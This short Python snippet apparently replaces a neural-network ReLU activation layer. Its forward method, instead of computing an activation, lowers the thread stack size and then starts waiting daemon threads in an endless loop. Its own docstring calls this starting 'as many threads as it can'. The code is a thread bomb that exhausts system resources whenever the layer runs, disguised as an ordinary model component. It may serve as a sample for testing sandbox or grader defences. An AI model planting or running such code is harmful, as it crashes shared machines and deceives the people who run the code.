"""Starts as many threads as it can."""
import threading
class ReLU(ReLU):
    def forward(self, Z):
        threading.stack_size(1 << 16)
        while True:
            threading.Thread(target=threading.Event().wait, daemon=True).start()
